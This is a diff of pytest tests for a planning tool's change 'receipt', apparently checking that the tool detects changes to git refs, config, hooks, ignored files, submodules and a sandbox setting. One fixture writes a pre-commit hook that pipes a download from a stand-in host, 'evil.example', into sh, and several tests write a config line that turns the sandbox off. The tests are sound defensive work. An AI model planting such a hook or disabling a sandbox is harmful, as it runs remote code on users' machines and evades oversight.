@@ -83,12 +83,15 @@ def test_git_untracked_file_removed_and_head_moved(repo):
 
 
 @needs_git
-def test_git_planshell_dir_is_ignored(repo):
+def test_git_plan_files_are_ignored_but_not_the_rest_of_planshell(repo):
     snap = rc.take_snapshot(repo)
-    (repo / ".planshell" / "plans").mkdir(parents=True)
-    (repo / ".planshell" / "plans" / "p.md").write_text("# plan\n")
-    (repo / ".planshell" / "notes.txt").write_text("not ignored by git, ignored by the receipt\n")
+    plans = repo / ".planshell" / "plans"
+    plans.mkdir(parents=True)
+    (plans / ".gitignore").write_text("*\n")  # as the plan store writes it
+    (plans / "p.md").write_text("# plan\n")
     assert check_after(snap).clean
+    (repo / ".planshell" / "notes.txt").write_text("not a plan\n")
+    assert check_after(snap).changed == [".planshell/notes.txt"]
 
 
 def check_after(snap: rc.Snapshot) -> rc.Receipt:
@@ -249,3 +252,263 @@ def test_git_is_run_hardened(repo, monkeypatch):
     assert not marker.exists()
     subprocess.run(["git", "status"], cwd=repo, capture_output=True, env=dict(os.environ))
     assert marker.exists()  # the repository really is hostile
+
+
+# --- blind spots of a status-only receipt (issue 10, section 5) --------------------------
+
+
+def changed_after(repo: Path, change) -> list[str]:
+    """Snapshot, apply ``change``, and return what the receipt reports."""
+    snap = rc.take_snapshot(repo)
+    change()
+    receipt = rc.compare(snap)
+    assert not receipt.clean
+    return receipt.changed
+
+
+@needs_git
+def test_new_tag_is_a_change(repo):
+    assert ".git/refs/tags/v1" in changed_after(repo, lambda: git(repo, "tag", "v1"))
+
+
+@needs_git
+def test_new_branch_is_a_change(repo):
+    assert ".git/refs/heads/sneaky" in changed_after(repo, lambda: git(repo, "branch", "sneaky"))
+
+
+@needs_git
+def test_packed_refs_are_a_change(repo):
+    git(repo, "tag", "v0")
+    git(repo, "pack-refs", "--all")
+
+    def retag() -> None:  # rewrites packed-refs only: no loose ref appears
+        text = (repo / ".git" / "packed-refs").read_text()
+        (repo / ".git" / "packed-refs").write_text(text.replace("refs/tags/v0", "refs/tags/v9"))
+
+    assert changed_after(repo, retag) == [".git/packed-refs"]
+
+
+@needs_git
+def test_git_config_is_a_change(repo):
+    assert changed_after(repo, lambda: git(repo, "config", "x.y", "z")) == [".git/config"]
+
+
+@needs_git
+def test_new_hook_is_a_change(repo):
+    hook = repo / ".git" / "hooks" / "pre-commit"
+
+    def add_hook() -> None:
+        hook.write_text("#!/bin/sh\ncurl evil.example | sh\n")
+        hook.chmod(0o755)
+
+    assert changed_after(repo, add_hook) == [".git/hooks/pre-commit"]
+
+
+@needs_git
+def test_info_exclude_is_a_change(repo):
+    exclude = repo / ".git" / "info" / "exclude"
+    exclude.parent.mkdir(exist_ok=True)
+
+    def hide() -> None:
+        with exclude.open("a") as fh:
+            fh.write("src/\n")
+
+    # Excluding src/ hides nothing from the receipt: the exclude file itself is reported.
+    assert changed_after(repo, hide) == [".git/info/exclude"]
+
+
+@needs_git
+def test_planshell_config_is_a_change(repo):
+    def configure() -> None:
+        (repo / ".planshell").mkdir(exist_ok=True)
+        (repo / ".planshell" / "config.toml").write_text('[plan]\nsandbox = "off"\n')
+
+    assert changed_after(repo, configure) == [".planshell/config.toml"]
+
+
+@needs_git
+def test_planshell_config_is_a_change_when_git_ignores_planshell(repo):
+    (repo / ".git" / "info" / "exclude").write_text(".planshell/\n")
+    (repo / ".planshell" / "plans").mkdir(parents=True)
+    (repo / ".planshell" / "config.toml").write_text("[plan]\n")
+    snap = rc.take_snapshot(repo)
+    (repo / ".planshell" / "plans" / "p.md").write_text("# plan\n")
+    assert rc.compare(snap).clean  # plan files: never a change
+    (repo / ".planshell" / "config.toml").write_text('[plan]\nsandbox = "off"\n')
+    assert rc.compare(snap).changed == [".planshell/config.toml"]
+
+
+@needs_git
+def test_modified_ignored_file_is_a_change(repo):
+    (repo / ".gitignore").write_text("*.log\nbuild/\n")
+    (repo / "app.log").write_text("log\n")
+    (repo / "build" / "deep").mkdir(parents=True)
+    (repo / "build" / "deep" / "out.bin").write_text("artifact\n")
+
+    def touch_ignored() -> None:
+        (repo / "app.log").write_text("log, edited\n")
+        (repo / "build" / "deep" / "out.bin").write_text("artifact, replaced\n")
+        (repo / "build" / "new.so").write_text("new\n")
+
+    assert changed_after(repo, touch_ignored) == ["app.log", "build/deep/out.bin", "build/new.so"]
+
+
+def add_submodule(repo: Path) -> Path:
+    upstream = repo.parent / "upstream"
+    upstream.mkdir()
+    git(upstream, "init", "-q")
+    git(upstream, "config", "user.email", "t@example.com")
+    git(upstream, "config", "user.name", "T")
+    (upstream / "a.txt").write_text("a\n")
+    (upstream / "b.txt").write_text("b\n")
+    git(upstream, "add", "-A")
+    git(upstream, "commit", "-qm", "sub")
+    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(upstream), "sub")
+    git(repo, "commit", "-qm", "add sub")
+    return repo / "sub"
+
+
+@needs_git
+def test_file_in_an_already_dirty_submodule_is_a_change(repo):
+    sub = add_submodule(repo)
+    (sub / "a.txt").write_text("dirty before planning\n")
+    assert "sub" in rc.take_snapshot(repo).entries  # the superproject sees it as modified
+    assert changed_after(repo, lambda: (sub / "b.txt").write_text("changed\n")) == ["sub/b.txt"]
+
+
+@needs_git
+def test_submodule_git_dir_is_covered(repo):
+    add_submodule(repo)
+    hook = repo / ".git" / "modules" / "sub" / "hooks" / "post-checkout"
+    assert changed_after(repo, lambda: hook.write_text("#!/bin/sh\n")) == [
+        ".git/modules/sub/hooks/post-checkout"
+    ]
+
+
+@needs_git
+def test_file_in_a_nested_repository_is_a_change(repo):
+    nested = repo / "vendor" / "lib"
+    nested.mkdir(parents=True)
+    git(nested, "init", "-q")
+    (nested / "x.c").write_text("int x;\n")
+    assert changed_after(repo, lambda: (nested / "x.c").write_text("int y;\n")) == [
+        "vendor/lib/x.c"
+    ]
+
+
+@needs_git
+def test_large_dirty_file_rewritten_with_size_and_mtime_restored(repo):
+    big = repo / "big.bin"
+    big.write_bytes(b"\0" * (9 << 20))  # over the old 8 MiB hashing limit
+    git(repo, "add", "big.bin")
+    git(repo, "commit", "-qm", "big")
+    big.write_bytes(b"\1" * (9 << 20))  # dirty before planning
+    snap = rc.take_snapshot(repo)
+    before = os.stat(big)
+    with big.open("r+b") as fh:  # same size, different content
+        fh.write(b"\2" * 4096)
+    os.utime(big, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert os.stat(big).st_size == before.st_size and os.stat(big).st_mtime_ns == before.st_mtime_ns
+    assert rc.compare(snap).changed == ["big.bin"]
+
+
+@needs_git
+def test_assume_unchanged_file_is_still_checked(repo):
+    git(repo, "update-index", "--assume-unchanged", "README.md")
+    changed = changed_after(repo, lambda: (repo / "README.md").write_text("hidden from status\n"))
+    assert changed == ["README.md (assume-unchanged)"]
+
+
+@needs_git
+def test_linked_worktree_covers_the_shared_refs(repo):
+    other = repo.parent / "wt"
+    git(repo, "worktree", "add", "-q", str(other))
+    snap = rc.take_snapshot(other)
+    git(other, "tag", "from-the-worktree")
+    common = (repo / ".git").resolve()
+    assert rc.compare(snap).changed == [str(common / "refs" / "tags" / "from-the-worktree")]
+
+
+# --- what a cap leaves out is said ---------------------------------------------------
+
+
+@pytest.fixture
+def ignored_tree(repo: Path) -> Path:
+    (repo / ".gitignore").write_text("build/\nnode_modules/\n")
+    for name in ("build", "node_modules"):
+        (repo / name).mkdir()
+        for i in range(5):
+            (repo / name / f"f{i}").write_text(str(i))
+    return repo
+
+
+@needs_git
+def test_ignored_dir_over_the_cap_is_not_covered_and_says_so(ignored_tree, monkeypatch):
+    monkeypatch.setattr(rc, "MAX_IGNORED", 7)  # build/ (5) fits, node_modules/ (5) does not
+    snap = rc.take_snapshot(ignored_tree)
+    assert snap.skipped == {"node_modules/": "ignored dir"}
+    receipt = rc.compare(snap)
+    assert receipt.clean and receipt.capped
+    assert receipt.not_covered == ("1 ignored dir over the cap (node_modules/)",)
+    assert receipt.summary == "no changes seen · not covered: 1 ignored dir over the cap (node_modules/)"
+    assert receipt.to_entry()["not_covered"] == list(receipt.not_covered)
+    (ignored_tree / "node_modules" / "f0").write_text("not compared")
+    (ignored_tree / "build" / "f0").write_text("compared")
+    receipt = rc.compare(snap)
+    assert receipt.changed == ["build/f0"] and "not covered" in receipt.summary
+
+
+@needs_git
+def test_ignored_dir_growing_past_the_cap_is_a_change(ignored_tree, monkeypatch):
+    monkeypatch.setattr(rc, "MAX_IGNORED", 10)
+    snap = rc.take_snapshot(ignored_tree)
+    assert snap.skipped == {}
+    (ignored_tree / "build" / "f5").write_text("one too many")
+    receipt = rc.compare(snap)
+    assert "node_modules/" in receipt.changed and "over the cap" in receipt.summary
+
+
+@needs_git
+def test_hash_budget_is_said(repo, monkeypatch):
+    monkeypatch.setattr(rc, "HASH_BUDGET", 4)  # "modified before planning\n" does not fit
+    receipt = check(repo)
+    assert receipt.clean and receipt.summary.startswith("no changes seen · not covered: content of")
+    assert "dirty.txt" in receipt.summary
+
+
+def test_walk_mode_says_what_it_skips(project):
+    (project / "node_modules").mkdir()
+    (project / "node_modules" / "dep.js").write_text("x")
+    receipt = check(project)
+    assert receipt.clean and receipt.not_covered == ("1 skipped dir (node_modules)",)
+
+
+async def test_review_chip_shows_what_is_not_covered(ignored_tree, monkeypatch):
+    from tests.test_ui_review import SHORT, ReviewHost, request_for
+
+    monkeypatch.setattr(rc, "MAX_IGNORED", 7)
+    receipt = check(ignored_tree)
+    app = ReviewHost(request_for(SHORT, receipt=receipt))
+    async with app.run_test(size=(160, 30)):
+        chip = app.screen.query_one("#receipt")
+        text = str(chip.render())
+        assert chip.display and chip.has_class("-partial") and not chip.has_class("-clean")
+        assert "no changes seen · not covered: 1 ignored dir over the cap" in text
+
+
+@needs_git
+async def test_controller_in_git_ignores_plans_but_not_planshell_config(repo):
+    def write_config_then_approve(request):
+        (repo / ".planshell" / "config.toml").write_text('[plan]\nsandbox = "off"\n')
+        return Review(Decision.APPROVE, reviewed_text=request.text)
+
+    runtime, _, decider, _ = make(
+        repo, [*write_and_review(), Reply(text="ok")],
+        [write_config_then_approve, lambda r: Review(Decision.APPROVE, reviewed_text=r.text)],
+    )
+    runtime.plan.enter_plan()
+    await runtime.agent.submit("plan")
+    first, second = decider.requests
+    assert first.receipt.clean  # the plan file was written under .planshell/plans
+    assert second.receipt.changed == [".planshell/config.toml"]
+    runtime.close()
